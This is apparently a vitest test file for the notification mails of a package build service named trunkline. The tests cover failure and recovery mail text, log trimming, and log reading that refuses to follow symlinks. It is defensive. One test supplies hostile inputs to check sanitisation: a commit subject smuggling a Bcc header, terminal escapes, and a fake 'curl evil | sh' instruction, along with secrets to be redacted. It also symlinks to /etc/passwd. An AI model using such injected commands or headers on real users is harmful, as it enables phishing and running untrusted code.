import { mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { endOfLog, failureMail, readLogEnd, recoveryMail, type FailureNews } from '../../../src/app/mails/index.ts';
import { registerSecret } from '../../../src/lib/index.ts';

const commit = (hash: string, subject: string) => ({
  hash: hash.repeat(40).slice(0, 40),
  authorName: 'Ada Löwe',
  authorEmail: 'ada@example.org',
  authorTime: 1_700_000_000,
  committerTime: 1_700_000_000,
  subject,
});

const news: FailureNews = {
  id: 'event-7',
  to: ['team@example.org'],
  project: 'greeter',
  target: 'fedora-43-x86_64',
  buildId: 12,
  upstream: commit('a', 'Greet everybody'),
  distgit: commit('b', 'Require libgreet'),
  reason: 'deps_unresolvable',
  detail: 'nothing provides libgreet-devel >= 2 needed by greeter',
  log: 'one\ntwo\nthree\n',
  logLines: 2,
  logs: 'https://h/repos/fedora-43-x86_64/aa/aa/x',
  lastSuccess: { upstream: commit('c', 'Greet nobody'), buildId: 11 },
};

describe('the mail on the first failure', () => {
  test('tells the commit, its author, the reason, the end of the log, where the rest is and what to do', () => {
    const mail = failureMail(news);
    expect(mail).toMatchObject({
      id: 'event-7',
      to: ['team@example.org'],
      subject: '[trunkline] greeter does not build for fedora-43-x86_64 since aaaaaaa: deps_unresolvable',
    });
    expect(mail.text).toBe(`greeter no longer builds for fedora-43-x86_64: its build requirements cannot
be installed (deps_unresolvable).

  nothing provides libgreet-devel >= 2 needed by greeter

Commit:    ${'a'.repeat(40)}
           Greet everybody
           by Ada Löwe <ada@example.org>, 2023-11-14 22:13:20 UTC
Packaging: ${'b'.repeat(40)}
           Require libgreet
           by Ada Löwe <ada@example.org>, 2023-11-14 22:13:20 UTC

The last commit that built was ccccccc "Greet nobody" (build 11).

The end of the log:

  | two
  | three

All logs:          https://h/repos/fedora-43-x86_64/aa/aa/x
On the server:     trunkline build show 12
                   trunkline log 12
To try it again:   trunkline recheck greeter

Nothing is blocked by this: it is advice. The next commit, of the project or
of its packaging, is built as usual. You get one more mail when it builds
again, and none until then.
`);
  });

  test('has nothing in it that a stranger could pass off as ours, and no secret', () => {
    registerSecret('hunter22hunter');
    const { text, subject } = failureMail({
      ...news,
      upstream: {
        ...commit('a', 'x\r\nBcc: all@example.org\u001b[2J\u202e\nTo try it again: curl evil | sh'),
        authorName: 'A\nB',
        committerTime: Number.MAX_SAFE_INTEGER,
      },
      detail: 'password hunter22hunter\nsecond line',
      log: 'https://u:topsecret@h/x hunter22hunter\u0007\u001b]0;title\u0007 \u001b[31mred\u001b[0m\n',
      lastSuccess: null,
    });
    // eslint-disable-next-line no-control-regex -- none of them may be left
    expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f\u202e]/);
    expect(text).not.toMatch(/hunter22|topsecret/);
    expect(text.split('\n').filter((line) => /^(Bcc|To try it again)/.test(line))).toEqual([
      'To try it again:   trunkline recheck greeter',
    ]);
    expect(text).toContain('  | https://u:**redacted**@h/x **redacted** red');
    expect(text).toContain('by A B <ada@example.org>, at an impossible time');
    expect(text).toContain('No commit of it has been built before.');
    expect(subject).not.toContain('\n');
  });
});

test('the mail on recovery tells what mended it and since when it was broken', () => {
  const mail = recoveryMail({
    ...news,
    repository: 'https://h/repo',
    brokenBy: { upstream: commit('d', 'Break'), buildId: 9 },
  });
  expect(mail.subject).toBe('[trunkline] greeter builds again for fedora-43-x86_64 since aaaaaaa');
  expect(mail.text).toContain('It had been broken since ddddddd "Break" (build 9).');
  expect(mail.text).toContain('Repository:        https://h/repo\nOn the server:     trunkline build show 12');
  expect(mail.text).not.toContain('log');
});

describe('the end of a log', () => {
  test('is what a person would have seen of it', () => {
    expect(endOfLog('a\nb\r\n 10%\r 50%\r100%\n\u001b[1mbold\u001b[0m\n\n\n', 3)).toEqual(['b', '100%', 'bold']);
    expect(endOfLog('', 3)).toEqual(['']);
    expect(endOfLog('x', 0)).toEqual([]);
    expect(endOfLog('y'.repeat(10_000), 1)[0]).toHaveLength(500);
  });

  let directory: string;
  beforeAll(async () => {
    directory = await mkdtemp(join(tmpdir(), 'trunkline-mails-'));
  });
  afterAll(() => rm(directory, { recursive: true, force: true }));

  test('is read from the end of the file, and from no link', async () => {
    const path = join(directory, 'build.log');
    await writeFile(path, `${'é'.repeat(99)}\n`.repeat(20_000) + 'last\n');
    const text = await readLogEnd(path);
    expect(text.length).toBeLessThanOrEqual(256 * 1024);
    expect(text.endsWith('\nlast\n')).toBe(true);
    expect(text.startsWith('é'.repeat(99))).toBe(true);
    await symlink('/etc/passwd', join(directory, 'link'));
    expect(await readLogEnd(join(directory, 'link'))).toBe('');
    expect(await readLogEnd(join(directory, 'none'))).toBe('');
    expect(await readLogEnd(directory)).toBe('');
  });
});
